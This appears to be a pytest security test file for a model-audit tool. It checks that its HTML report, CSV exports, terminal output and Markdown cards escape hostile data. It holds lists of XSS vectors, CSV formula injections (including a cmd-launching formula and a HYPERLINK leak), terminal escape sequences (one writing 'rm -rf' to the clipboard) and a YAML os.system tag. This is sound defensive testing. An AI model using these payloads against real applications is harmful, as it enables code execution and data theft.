"""What shows the data to people: the report's page, CSV, terminals, Markdown; and texts that would run, steer or break
it."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
import report_rows
import warehouse_rows
import yaml  # type: ignore[import-untyped]
from conftest import Torture
from hypothesis import given
from hypothesis import strategies as st
from judging_rows import Scene
from markdown_it import MarkdownIt
from playwright.sync_api import Request, sync_playwright
from report_page import Page, differences
from test_card import facts
from test_report_browser import CHROMIUM, QUIET
from warehouse_rows import RUN

from constitution.audit.report import headlines, report, summary
from constitution.cli import main, principles_impact
from constitution.cli._scorecard import tell as tell_scorecard
from constitution.cli.audit import _tell as tell_audit
from constitution.export.card import CardOptions, card
from constitution.pipeline import report as told_of
from constitution.records import Constitution, Message, Principle, Prompt, Usage
from constitution.shown import from_spreadsheet, printable, spreadsheet
from constitution.warehouse import Warehouse, connect
from constitution.warehouse.labels import read_labels

RAN = "document.title='ran'"
PAGE = (
    f"<script>{RAN}</script>",
    f'"><script>{RAN}</script>',
    f"'><img src=x onerror={RAN}>",
    f'"><svg/onload={RAN}>',
    f"</title><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"</pre></details><script>{RAN}</script>",
    f"</textarea></noscript></template><script>{RAN}</script>",
    f"<!--><script>{RAN}</script>-->",
    f"--!><script>{RAN}</script>",
    f"]]><script>{RAN}</script>",
    f"<svg><script>{RAN}</script></svg>",
    f'<math><mtext></mtext><mglyph><style><img src="x" onerror="{RAN}">',
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f'<a href="javascript:{RAN}" id=x name=body>click</a>',
    f'" autofocus tabindex=1 onfocus="{RAN}" x="',
    f"' onmouseover='{RAN}' x='",
    f"` onclick=`{RAN}`",
    '<base href="http://127.0.0.1:9/">',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
    '<link rel=stylesheet href="http://127.0.0.1:9/x.css">',
    "<style>@import 'http://127.0.0.1:9/x.css'; * { display: none }</style>",
    '<form action="http://127.0.0.1:9/"><button>Log in</button></form>',
    '<object data="http://127.0.0.1:9/"></object><embed src="http://127.0.0.1:9/">',
    "&lt;script&gt;already escaped&lt;/script&gt; &amp; &#60;b&#62;",
    "{{ 7 * 7 }}{% raw %}{{ config }}{# x #}${7*7}<%= 7*7 %>",
    "＜script＞full width＜/script＞ \u202etpircs\u202c \u2028\u2029\ufeff",
    "$\\frac{1}{0}$ \\input{x} $$",
)
"""Texts that make a careless page run, load or look like something else."""


# --- the report's page


def dresser(harmless: bool) -> Callable[[str], str]:
    """Puts one of PAGE after a text, always the same one after the same; harmless: as many letters."""

    def dress(text: str) -> str:
        attack = PAGE[zlib.crc32(text.encode()) % len(PAGE)]
        return text + ("x" * len(attack) if harmless else attack)

    return dress


FIELDS = ("judge", "principle_id", "model", "note", "message", "error", "rationale")
LONG = ("text", "critique")


def dressed(folder: Path, monkeypatch: pytest.MonkeyPatch, *, harmless: bool = False) -> Path:
    """The warehouse of tests/report_rows.py, its names dressed with one attack each and its texts with all of them."""
    dress = dresser(harmless)

    def every(text: str) -> str:
        """All of them; which one is the first, the text decides, since the page cuts long texts."""
        first = zlib.crc32(text.encode()) % len(PAGE)
        attacks = (*PAGE[first:], *PAGE[:first])
        return text + "".join("x" * len(attack) if harmless else f"\n{attack}" for attack in attacks)

    def hostile(row: Any) -> Any:
        changes = {name: dress(getattr(row, name)) for name in FIELDS if getattr(row, name, None)}
        changes |= {name: every(getattr(row, name)) for name in LONG if getattr(row, name, None)}
        if getattr(row, "figure", "") == "phi":
            changes["subject"] = dress(row.subject)
        return replace(row, **changes)

    plain, write, figures, of_run = warehouse_rows.prompt, Warehouse.write_part, report_rows.figures, warehouse_rows.run

    def prompt(number: int) -> Prompt:
        found = plain(number)
        return replace(found, messages=(*found.messages[:-1], Message("user", every(found.messages[-1].content))))

    def run(*given: Any, **more: Any) -> Any:
        found = of_run(*given, **more)
        models = {role: {**about, "name": dress(about["name"])} for role, about in found.models.items()}
        return replace(found, models=models, hardware={"cpu": dress("cpu")}, constitution=dress(found.constitution))

    with monkeypatch.context() as patch:
        patch.setattr(warehouse_rows, "prompt", prompt)
        patch.setattr(warehouse_rows, "run", run)
        patch.setattr(report_rows, "figures", lambda: [hostile(figure) for figure in figures()])
        patch.setattr(
            Warehouse, "write_part", lambda self, table, run_id, rows, *more: write(
                self, table, run_id, [hostile(row) for row in rows], *more
            )
        )  # fmt: skip
        return report_rows.audited(folder).root


class Skeleton(HTMLParser):
    """A page without its texts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.others: list[str] = []
        """Comments, declarations and the like."""
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.addresses += [value or "" for name, value in attrs if name.split(":")[-1] in ("href", "src", "action")]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    handle_pi = unknown_decl = handle_comment


ATTRIBUTES = re.compile(r"data-[a-z]+|aria-[a-z]+|xmlns(:xlink)?|xlink:href|[a-z]+(-[a-z]+)*|viewBox|clipPath", re.A)


def check_page(html: str) -> None:
    """Nothing in it but what the template and the drawings make."""
    page = Skeleton(html)
    tags = {tag for tag, _ in page.tags}
    svg = {"svg", "g", "path", "text", "tspan", "use", "defs", "clippath", "rect", "line", "circle", "polyline"}
    own = "html head meta title link style body header main nav section article details summary div span p pre code a "
    own += "h1 h2 h3 ul li dl dt dd table thead tbody tr th td small"
    assert tags <= svg | set(own.split()), tags
    names = {name for _, attributes in page.tags for name in attributes}
    assert not {name for name in names if name.startswith("on") or not ATTRIBUTES.fullmatch(name)}
    assert not {"srcdoc", "src", "action", "formaction", "background", "autofocus"} & names
    assert all(address.startswith("#") or address == "data:," for address in page.addresses), page.addresses
    assert page.others == ["doctype html"]
    assert sum(tag == "meta" for tag, _ in page.tags) == 4
    assert [attributes for tag, attributes in page.tags if tag == "style"] == [()]


def test_the_page_has_nothing_of_the_datas_making(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture
) -> None:
    root = dressed(tmp_path / "hostile", monkeypatch)
    html = report(root, RUN)
    check_page(html)
    assert differences(Page(html), root) == []  # every cell has its text as the warehouse has it
    shown = "".join(Skeleton(html).text.split())
    assert [attack for attack in PAGE if "".join(attack.split()) not in shown] == []
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert policy
    assert html.index(policy[0]) < html.index("<title>")
    assert {"default-src 'none'", "base-uri 'none'", "form-action 'none'"} <= set(policy[1].split("; "))
    assert "script-src" not in policy[1]
    torture.count("attacks on the rest", len(PAGE))
    # Its tables and plots are as many, and as long, as with letters in place of the attacks.
    if torture.full:
        harmless = report(dressed(tmp_path / "harmless", monkeypatch, harmless=True), RUN)
        assert tags_of(html) == tags_of(harmless)
        check_browser(html, tmp_path / "report.html")


def tags_of(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Without what is inside the drawings, where a long name may be a line more."""
    outside = re.sub(r"<svg.*?</svg>", "<svg></svg>", html, flags=re.DOTALL)
    assert "<svg></svg>" in outside
    return Skeleton(outside).tags


def check_browser(html: str, path: Path) -> None:
    """Nothing of the data's runs in Chromium, with the policy and without it; and what does run is noticed."""
    if CHROMIUM is None:
        return
    policy = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
    planted = html.replace("<main>", f"<main><script>{RAN}</script><img src='http://127.0.0.1:9/x'>")
    pages = {
        "as it is": (html, False),
        "as it is, but for the policy": (policy.sub("", html), False),
        "with a script, which the policy stops": (planted, False),
        "with a script and without the policy": (policy.sub("", planted), True),
    }
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*QUIET, "--disable-sync"])
        for name, (text, runs) in pages.items():
            path.write_text(text, encoding="utf-8")
            page = browser.new_page()
            asked: list[str] = []
            stopped: list[str] = []
            page.on("request", partial(_note, asked))
            page.on("requestfailed", partial(_note_stopped, stopped))
            page.goto(path.as_uri())
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            for element in page.query_selector_all("td, dd, li")[:200]:
                element.dispatch_event("mouseover")
            page.wait_for_timeout(200)
            assert (page.title() == "ran") is runs, name
            assert asked[1:] == ["http://127.0.0.1:9/x"] * ("with" in name), name
            assert stopped == ["http://127.0.0.1:9/x"] * ("stops" in name), name
        browser.close()


def _note(asked: list[str], request: Request) -> None:
    asked.append(request.url)


def _note_stopped(stopped: list[str], request: Request) -> None:
    """By the page's policy, and not by the network."""
    if request.failure == "csp":
        stopped.append(request.url)


# --- CSV

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "+1+1",
    "+cmd|'x'!A0",
    "-1+1",
    "-2+3+cmd",
    "@SUM(1+1)",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=",
    "-",
    "+",
    "@",
    "- a list",
    "'=1+1",
    "''@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=\x00",
    "-1+1\n=2",
    "=1,=2",
    '="a""b"',
    "%0A=1+1",
    "=1;=2",
)
PLAIN = ("-5", "+1.5", "-1e9", "3,5", "a=1", " =1", "'", "''", "", "x", "1-1", "“=”", "-12.5%", "NULL", "\\=1")
RUNS = tuple("=+-@\t\r\n＝＋－＠")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def asked(words: list[str], capsys: Any, monkeypatch: pytest.MonkeyPatch) -> str:
    """What the command says."""
    monkeypatch.setattr(sys, "argv", ["constitution", *words])
    with pytest.raises(SystemExit) as ended:
        main()
    said = capsys.readouterr()
    assert ended.value.code in (0, 1, 2)
    return str(said.out + said.err)


def test_no_cell_of_a_csv_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture, capsys: Any
) -> None:
    scene = Scene()
    for number, text in enumerate((*FORMULAS, *PLAIN)):
        scene.pair(a=text, b=f"answer {number}")
    scene.write(tmp_path)
    out = tmp_path.parent / f"{tmp_path.name}.csv"
    query = "SELECT text, -1.5 AS n, -2 AS m, ['=1'] AS l, {'a': '=1'} AS s, '=1'::BLOB AS b FROM responses"
    asked(["sql", "--format", "csv", "--out", str(out), query, "--warehouse", str(tmp_path)], capsys, monkeypatch)
    head, *rows = parsed(out.read_bytes().decode())
    assert head == ["text", "n", "m", "l", "s", "b"]
    stored = {row[0] for row in rows}
    assert not [cell for cell in stored if cell.startswith(RUNS) and cell not in PLAIN]
    assert {from_spreadsheet(cell) for cell in stored} >= {*FORMULAS, *PLAIN}
    assert stored >= set(PLAIN)  # numbers stay numbers, and texts that do nothing stay as they are
    assert {tuple(row[1:]) for row in rows} == {("-1.5", "-2", '["=1"]', '{"a": "=1"}', "PTE=")}
    torture.count("attacks on the rest", len(FORMULAS))


def test_the_heads_of_a_csv_are_no_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture, capsys: Any
) -> None:
    _one_pair(tmp_path)
    said = asked(["sql", "--format", "csv", 'SELECT 1 AS "=1+1"', "--warehouse", str(tmp_path)], capsys, monkeypatch)
    assert parsed(said) == [["'=1+1"], ["1"]]
    torture.count("attacks on the rest")


def _one_pair(root: Path) -> None:
    scene = Scene()
    scene.pair(a="one", b="two")
    scene.write(root)


@given(st.text(st.characters(codec="utf-8"), max_size=12) | st.text("=+-@'\t\r\n1 ＝", max_size=6))
def test_every_text_comes_back_and_none_is_a_formula(text: str) -> None:
    cell = spreadsheet(text)
    assert from_spreadsheet(cell) == text
    assert not cell.startswith(RUNS) or re.fullmatch(r"[+-][\d.,]+([eE][+-]?\d+)?%?", cell)


def test_labels_come_back_from_the_csv_as_they_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture, capsys: Any
) -> None:
    """Raters that would be formulas: exported, imported again, nothing new."""
    root = tmp_path / "warehouse"
    _one_pair(root)
    raters = [text for text in (*FORMULAS, *PLAIN) if text.strip() == text and text and "\x00" not in text]
    raters = raters if torture.full else raters[::5]
    pair = next(iter(parsed(asked(["sql", "--format", "csv", "SELECT id FROM preferences", "--warehouse", str(root)],
                                  capsys, monkeypatch))[1:]))[0]  # fmt: skip
    lines = [json.dumps({"pair_id": pair, "value": 1, "rater": rater}) for rater in raters]
    (tmp_path / "first.jsonl").write_text("\n".join(lines), encoding="utf-8")
    asked(["labels", "import", str(tmp_path / "first.jsonl"), "--warehouse", str(root)], capsys, monkeypatch)
    query = "SELECT pair_id, value, rater FROM labels"
    out = tmp_path / "first.csv"
    asked(["sql", "--format", "csv", "--out", str(out), query, "--warehouse", str(root)], capsys, monkeypatch)
    assert "'=1+1" in out.read_text(encoding="utf-8")
    assert {label.rater for label in read_labels(root, out).labels} == set(raters)
    said = asked(["labels", "import", str(out), "--warehouse", str(root)], capsys, monkeypatch)
    assert f"{len(raters)} labels" in said
    counted = asked(["sql", "--format", "csv", "SELECT count(DISTINCT id), count(DISTINCT rater) FROM labels",
                     "--warehouse", str(root)], capsys, monkeypatch)  # fmt: skip
    assert parsed(counted)[1] == [str(len(raters))] * 2
    torture.count("round trips", len(raters))


def test_the_impacts_csv_has_no_formulas(tmp_path: Path, torture: Torture) -> None:
    def shift(text: str) -> Any:
        pair = SimpleNamespace(id="i", kind="first-last", a=SimpleNamespace(prompt_id="p", text=text),
                               b=SimpleNamespace(text=text))  # fmt: skip
        one = SimpleNamespace(p_b=0.25)
        prompt = SimpleNamespace(messages=(SimpleNamespace(content=text),))
        return SimpleNamespace(pair=pair, prompt=prompt, old=one, new=one, change=-0.5, flips=False)

    found = cast(Any, SimpleNamespace(shifts=tuple(map(shift, FORMULAS))))
    principles_impact._write(tmp_path / "impact.csv", found)
    _, *rows = parsed((tmp_path / "impact.csv").read_bytes().decode())
    assert [tuple(map(from_spreadsheet, row[-3:])) for row in rows] == [(text,) * 3 for text in FORMULAS]
    assert not [cell for row in rows for cell in row if cell.startswith(RUNS) and cell != "-0.5"]
    torture.count("attacks on the rest", len(FORMULAS))


# --- terminals

STEERING = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2Kall is well",
    "\x1b[?1049h",
    "\x1b]8;;http://127.0.0.1:9\x1b\\x",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bc",
    "\x9b31m",
    "\x9d0;owned\x9c",
    "\x90q\x9c",
    "\x07\x08\x08",
    "safe\rEVIL",
    "a\x7fb",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "\x0b\x0c\x1c\x1d\x85\u2028\u2029",
    "\udb40\udc41",
    "[bold red]x[/]",
    "[link=http://127.0.0.1:9]x[/link]",
    "[/]",
    "\\[x]",
)
EVERY = " ".join(text for text in STEERING if not any(0xD800 <= ord(char) <= 0xDFFF for char in text))


def check_terminal(said: str, *among: str) -> None:
    steers = {char for char in said if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert not steers, said
    # It was there, and was shown: as escapes, on one line.
    for text in among:
        assert printable(text).replace(" ", "") in said.replace(" ", "").replace("\n", ""), said


def test_what_is_printed_does_not_steer_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture, capsys: Any
) -> None:
    monkeypatch.setenv("COLUMNS", "4000")
    root = tmp_path / "warehouse"
    of_run, figures = warehouse_rows.run, report_rows.figures

    def run(*given: Any, **more: Any) -> Any:
        engines = {"policy": {"calls": 1, "state": EVERY, "events": [EVERY], "endpoints": []}}
        models = {"policy": {"name": EVERY, "engine": EVERY}}
        return replace(of_run(*given, **more), models=models, engines=engines, constitution=EVERY, stopped=EVERY)

    monkeypatch.setattr(warehouse_rows, "run", run)
    hostile = [replace(each, judge=each.judge and EVERY, note=each.note and EVERY) for each in figures()]
    distinct = {(each.figure, each.principle_id, each.subject): each for each in hostile}
    monkeypatch.setattr(report_rows, "figures", lambda: list(distinct.values()))
    report_rows.audited(root)
    where = ["--warehouse", str(root)]
    literal = "'" + EVERY.replace("'", "''") + "'"
    for words in (
        ["runs", *where],
        ["sql", f'SELECT 1 AS "{EVERY}"', *where],
        ["sql", f"SELECT [{literal}] AS x, {{'a': {literal}}} AS y", *where],
    ):
        check_terminal(asked(words, capsys, monkeypatch))
    check_terminal(asked(["runs", RUN, *where], capsys, monkeypatch), EVERY)
    with connect(root) as connection:
        tell_audit(RUN, headlines(connection, RUN))
    tell_scorecard(root, RUN)
    check_terminal("".join(capsys.readouterr()), EVERY)
    torture.count("attacks on the rest", len(STEERING))


def test_errors_and_principles_do_not_steer_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture, capsys: Any
) -> None:
    (tmp_path / "principles" / "odd").mkdir(parents=True)
    (tmp_path / "principles" / "principles.lock").write_text("", encoding="utf-8")
    said = json.dumps(EVERY).replace("\\ud", "\\\\ud")
    text = f'name = "odd"\nversion = "1.0.0"\ndescription = {said}\nsource = {said}\n[[principle]]\nid = "a"\n'
    text += f"tags = []\ncritique_request = {said}\nrevision_request = {said}\ncomparison_question = {said}\n"
    (tmp_path / "principles" / "odd" / "1.0.0.toml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for words in (
        ["principles", "show", "odd"],
        ["principles", "list"],
        ["principles", "check"],
        ["principles", "show", EVERY],
        ["run", f"{EVERY}.toml"],
        ["runs", EVERY],
        ["sql", f"SELECT {EVERY}"],
        ["labels", "import", f"{EVERY}.csv"],
        ["export", EVERY, "--format", "dpo", "--out", "x"],
        [EVERY],
        ["run", "x.toml", f"--{EVERY}"],
    ):
        check_terminal(asked(words, capsys, monkeypatch))
        torture.count("attacks on the rest")


# --- Markdown

MARKS = (
    "| a | b |",
    "<b>x</b>",
    "<script>x</script>",
    "<img src=x onerror=y>",
    "[x](javascript:y)",
    "![x](http://127.0.0.1:9)",
    "`code`",
    "```\nx\n```",
    "# heading",
    "\n\n# heading\n\n",
    "- item",
    "1. item",
    "> quote",
    "---",
    "\n---\nlicense: mit\n",
    "***x***",
    "~~x~~",
    "<http://127.0.0.1:9>",
    "[x]: http://127.0.0.1:9",
    "&lt;b&gt;",
    "\\<b\\>",
    "\\",
    "\\|",
    "$x$",
    "<!-- x",
    "<details open ontoggle=x>",
    ": x",
    "{{ 7*7 }}",
    "{% x %}",
    "!!python/object/apply:os.system [x]",
    "&a [*a,*a]",
    "\x85\u2028x",
)


def tokens(text: str) -> Iterator[str]:
    """Kinds of what a Markdown reader finds, with HTML let through."""
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text):
        yield token.type
        yield from (child.type for child in token.children or ())


def shape(text: str) -> list[str]:
    return [kind for kind in tokens(text) if kind not in ("text", "text_special", "softbreak")]


@pytest.mark.parametrize("mark", MARKS)
def test_a_mark_in_the_data_is_none_in_the_markdown(
    mark: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture
) -> None:
    """Prefect's artifacts and the card, with the mark in every text of the data, are of the shape that they are with a
    letter in its place."""

    def run(text: str) -> Any:
        engines = {"policy": {"calls": 1, "state": text, "events": [text, f"a{text}"]}}
        usage = (_usage(text),) * 2
        found = warehouse_rows.run()
        models = {role: {**about, "name": text, "engine": text} for role, about in found.models.items()}
        return replace(found, models=models, engines=engines, constitution=text, stopped=text, usage=usage)

    def carded(text: str) -> str:
        principles = (Principle("kind", text, text, text, 1.0, (text,), text),)
        constitution = Constitution("general", "1.1.0", text, principles, (), text, text)
        known = facts(run=replace(run(text), run_id=RUN, recipe={"name": text, "prompts": {"path": f"x/{text}y"}}),
                      constitution=constitution, dropped={"tie": 1})  # fmt: skip
        return card(known, CardOptions(title=text))

    assert shape(told_of(run(mark))) == shape(told_of(run("x")))
    hostile, harmless = carded(mark), carded("x")
    (_, header, body), (_, plain_header, plain_body) = (text.split("---\n", 2) for text in (hostile, harmless))
    assert shape(body) == shape(plain_body)
    read, plain = yaml.safe_load(header), yaml.safe_load(plain_header)
    assert {**read, "pretty_name": 0} == {**plain, "pretty_name": 0}
    assert read["pretty_name"] == " ".join(mark.split())
    torture.count("attacks on the rest")


def _usage(text: str) -> Any:
    return Usage(text, text, 1, 2, 1, 3)


def test_the_audits_artifact_is_markdown_of_ours_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, torture: Torture
) -> None:
    if not torture.full:
        pytest.skip("two audits: in `make torture`")
    figures, shapes = report_rows.figures, []
    for number, text in enumerate(("x", "".join(f" {mark}" for mark in MARKS))):
        dress = [replace(each, judge=each.judge and each.judge + text, note=text) for each in figures()]
        with monkeypatch.context() as patch:
            patch.setattr(report_rows, "figures", lambda dress=dress: dress)
            root = report_rows.audited(tmp_path / str(number)).root
        shapes.append(shape(summary(root, RUN)))
    assert shapes[0] == shapes[1]
    assert "table_open" in shapes[0]
    torture.count("attacks on the rest", len(MARKS))


def test_the_marks_are_marks() -> None:
    """Unescaped, most of them change what a reader finds."""
    assert sum(shape(f"x\n\n{mark}\n") != shape("x\n\nx\n") for mark in MARKS) > len(MARKS) / 2
